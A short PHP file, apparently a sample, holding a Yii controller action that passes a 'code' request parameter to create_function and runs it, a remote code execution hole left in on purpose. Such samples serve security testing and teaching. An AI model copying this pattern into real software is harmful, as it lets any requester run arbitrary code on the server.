<?php
// inert sample: a Yii action evaluating a request parameter
class ToolsController extends CController
{
    public function actionRun()
    {
        $code = Yii::app()->request->getParam('code');
        $f = create_function('', $code);
        $f();
    }
}
